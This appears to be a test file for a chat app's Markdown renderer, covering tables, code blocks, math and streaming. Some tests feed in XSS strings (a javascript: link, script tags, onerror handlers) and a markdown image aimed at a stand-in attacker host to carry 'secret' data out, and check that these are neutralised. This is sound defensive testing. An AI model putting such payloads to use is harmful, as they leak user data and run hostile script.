import { act, cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { i18n } from '../../i18n';
import { setNotifier } from '../../lib/notify';
import { LazyMarkdown, needsMarkdown } from './lazy-markdown';
import Markdown from './markdown';

const notices = { success: [] as string[], error: [] as string[] };

beforeAll(async () => {
  await i18n.changeLanguage('en-US');
});

beforeEach(() => {
  notices.success = [];
  notices.error = [];
  setNotifier({
    success: (text) => notices.success.push(text),
    error: (text) => notices.error.push(text),
    info: () => undefined,
  });
});

afterEach(() => {
  cleanup();
  setNotifier(null);
});

const show = (text: string, variant?: 'screen' | 'export') =>
  render(<Markdown text={text} variant={variant} />).container;

describe('Markdown', () => {
  it('renders GFM tables inside a sideways-scrolling frame', () => {
    const root = show('| Name | Age |\n| --- | ---: |\n| Ann | 31 |\n| Bo | 4 |');
    const table = root.querySelector('.md-table > table');
    expect(table).not.toBeNull();
    expect([...table!.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['Name', 'Age']);
    expect(table!.querySelectorAll('tbody tr')).toHaveLength(2);
    expect(table!.querySelector('td')?.nextElementSibling?.getAttribute('style')).toContain(
      'right',
    );
  });

  it('shows code with its language label, highlighting and a copy button that copies', async () => {
    const writeText = vi.fn<(text: string) => Promise<void>>(async () => undefined);
    vi.stubGlobal('isSecureContext', true);
    vi.spyOn(navigator, 'clipboard', 'get').mockReturnValue({ writeText } as unknown as Clipboard);
    const root = show('Try:\n\n```ts\nconst answer: number = 42;\n```');
    expect(root.querySelector('.md-code-lang')?.textContent).toBe('ts');
    await waitFor(() =>
      expect(root.querySelector('.md-code .hljs-keyword')?.textContent).toBe('const'),
    );
    expect(root.querySelector('.md-code pre code')?.textContent).toBe('const answer: number = 42;');
    fireEvent.click(screen.getByRole('button', { name: 'Copy' }));
    await waitFor(() => expect(notices.success).toEqual(['Copied']));
    expect(writeText).toHaveBeenCalledWith('const answer: number = 42;');
    expect(root.querySelector('.md-code-copy')?.textContent).toBe('Copied');
    vi.unstubAllGlobals();
  });

  it('labels a fence without a language "text" and leaves an unknown language unhighlighted', () => {
    const root = show('```\nplain\n```\n\n```brainfuck\n+++.\n```');
    const labels = [...root.querySelectorAll('.md-code-lang')].map((el) => el.textContent);
    expect(labels).toEqual(['text', 'brainfuck']);
    expect(root.querySelectorAll('.hljs')).toHaveLength(0);
  });

  it('renders an unclosed fence of a streaming answer as code', () => {
    const root = show('Here:\n\n```python\ndef f():\n    return 1');
    expect(root.querySelector('.md-code-lang')?.textContent).toBe('python');
    expect(root.querySelector('.md-code pre code')?.textContent).toBe('def f():\n    return 1');
  });

  it('renders inline and display math with KaTeX, including \\( \\) and \\[ \\]', async () => {
    const root = show('Inline $a^2$ and \\(b_1\\).\n\n$$\n\\frac{1}{2}\n$$\n\n\\[ c = d \\]');
    await waitFor(() => expect(root.querySelectorAll('.katex')).toHaveLength(4));
    expect(root.querySelectorAll('.katex-display')).toHaveLength(2);
    expect(root.querySelector('.katex-display annotation')?.textContent).toBe('\\frac{1}{2}');
  });

  it('leaves prices alone: "$5 to $10" is text, not a formula', async () => {
    const root = show('From $5 to $10, and $x^2$.');
    await waitFor(() => expect(root.querySelectorAll('.katex')).toHaveLength(1));
    expect(root.querySelector('p')?.textContent).toMatch(/^From \$5 to \$10, and /);
  });

  it('shows a formula KaTeX cannot read as its muted source instead of failing', async () => {
    const root = show('Broken $\\frac{1}{$ formula');
    await waitFor(() => expect(root.querySelector('.katex-error')?.textContent).toBe('\\frac{1}{'));
    expect(root.textContent).toContain('formula');
  });

  it('opens links in a new tab without an opener, and drops javascript: links', () => {
    const root = show('[site](https://example.com) and [bad](javascript:alert(1))');
    const links = root.querySelectorAll('a');
    expect(links[0]?.getAttribute('href')).toBe('https://example.com');
    expect(links[0]?.getAttribute('target')).toBe('_blank');
    expect(links[0]?.getAttribute('rel')).toContain('noopener');
    expect(links[1]?.getAttribute('href') ?? '').not.toContain('javascript');
  });

  it('never renders raw HTML: it shows as text', () => {
    const root = show(
      '<script>alert(1)</script>\n\nHi <b onclick="x()">bold</b> <img src=x onerror=y>',
    );
    expect(root.querySelector('script, b, [onclick], [onerror]')).toBeNull();
    expect(root.textContent).toContain('<b onclick="x()">bold</b>');
  });

  it('loads images lazily on screen and at once for the export, without buttons there', () => {
    expect(show('![cat](/cat.png)').querySelector('img')?.getAttribute('loading')).toBe('lazy');
    cleanup();
    const exported = show('![cat](/cat.png)\n\n```js\nx\n```', 'export');
    expect(exported.querySelector('img')?.getAttribute('loading')).toBe('eager');
    expect(exported.querySelector('.md-code-lang')?.textContent).toBe('js');
    expect(exported.querySelector('button')).toBeNull();
    expect(exported.firstElementChild?.className).toContain('md-export');
  });

  it('loads another site’s picture only on a click, through the proxy', async () => {
    const fetches: string[] = [];
    const fetchMock = vi.fn(async (url: string) => {
      fetches.push(url);
      return new Response(new Blob([new Uint8Array([137, 80, 78, 71])], { type: 'image/png' }));
    });
    vi.stubGlobal('fetch', fetchMock);
    const blobUrl = vi.spyOn(URL, 'createObjectURL').mockReturnValue('blob:local/1');
    try {
      const root = show('![leak](https://attacker.example/x.gif?data=secret)');
      expect(root.querySelector('img')).toBeNull();
      const button = screen.getByTestId('remote-image');
      expect(button.textContent).toContain('attacker.example');
      expect(fetches).toEqual([]);
      fireEvent.click(button);
      await waitFor(() =>
        expect(root.querySelector('img')?.getAttribute('src')).toBe('blob:local/1'),
      );
      expect(fetches).toEqual([
        `/api/proxy/image?url=${encodeURIComponent('https://attacker.example/x.gif?data=secret')}`,
      ]);
    } finally {
      vi.unstubAllGlobals();
      blobUrl.mockRestore();
    }
    cleanup();
    // The PNG export names the site instead, with nothing to click.
    const exported = show('![leak](https://attacker.example/x.gif)', 'export');
    expect(exported.querySelector('img, button')).toBeNull();
    expect(exported.textContent).toContain('attacker.example (not loaded)');
  });

  it('follows a growing text: earlier blocks stay, the last one grows', () => {
    const { container, rerender } = render(<Markdown text="First **bold**" />);
    const first = container.querySelector('p');
    rerender(<Markdown text={'First **bold**\n\n```js\nlet'} />);
    rerender(<Markdown text={'First **bold**\n\n```js\nlet x = 1;\n```\n\nDone'} />);
    expect(container.querySelector('p')).toBe(first);
    expect(container.querySelector('.md-code pre code')?.textContent).toBe('let x = 1;');
    expect(container.querySelectorAll('p')[1]?.textContent).toBe('Done');
  });
});

describe('LazyMarkdown', () => {
  it('shows the plain text until the markdown chunk arrives', async () => {
    let view!: ReturnType<typeof render>;
    await act(async () => {
      view = render(<LazyMarkdown text="**Hello** $x$" />);
    });
    await waitFor(() => expect(view.container.querySelector('strong')?.textContent).toBe('Hello'));
    await waitFor(() => expect(view.container.querySelector('.katex')).not.toBeNull());
  });

  it('renders plain text without the markdown chunk, and loads it for anything else', () => {
    expect(needsMarkdown('Welcome!\nThe service is open 24 hours a day.')).toBe(false);
    expect(needsMarkdown('欢迎使用，本站全天开放。')).toBe(false);
    for (const text of [
      'a **bold** word',
      'some `code`',
      '# Title',
      '> quote',
      '- item',
      '1. first',
      'see https://example.com',
      'mail me@example.com',
      'price $x$',
      '| a | b |',
      'a <b>tag</b>',
      '~~gone~~',
      'a [link](x)',
    ])
      expect(needsMarkdown(text), text).toBe(true);
    const { container } = render(<LazyMarkdown text={'Line one\nline two'} />);
    expect(container.textContent).toBe('Line one\nline two');
  });
});
